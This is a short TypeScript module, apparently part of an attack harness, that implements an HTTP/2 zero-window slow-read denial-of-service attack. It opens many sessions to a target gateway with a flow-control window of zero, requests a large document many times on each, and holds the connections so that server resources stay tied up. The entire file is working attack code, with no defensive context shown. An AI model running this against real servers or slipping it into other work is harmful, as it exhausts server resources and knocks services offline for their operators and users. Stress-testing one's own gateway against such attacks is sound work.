// SPDX-License-Identifier: Apache-2.0
// Streams of HTTP/2 with a window of nothing: each asks for the largest document, and none of it can be sent.
import { type AttackOptions, holding, type StartAttack, session, several } from './attack.ts';

export const windowZeroReaders: StartAttack = async (
  gateway,
  { connections = 20, each = 100, path = '/docs' }: AttackOptions = {},
) => {
  const sessions = await several(connections, () => session(gateway, { settings: { initialWindowSize: 0 } }));
  for (const one of sessions)
    for (let i = 0; i < each && !one.destroyed && !one.closed; i++)
      one.request({ ':path': path }).on('error', () => undefined);
  return holding(sessions);
};
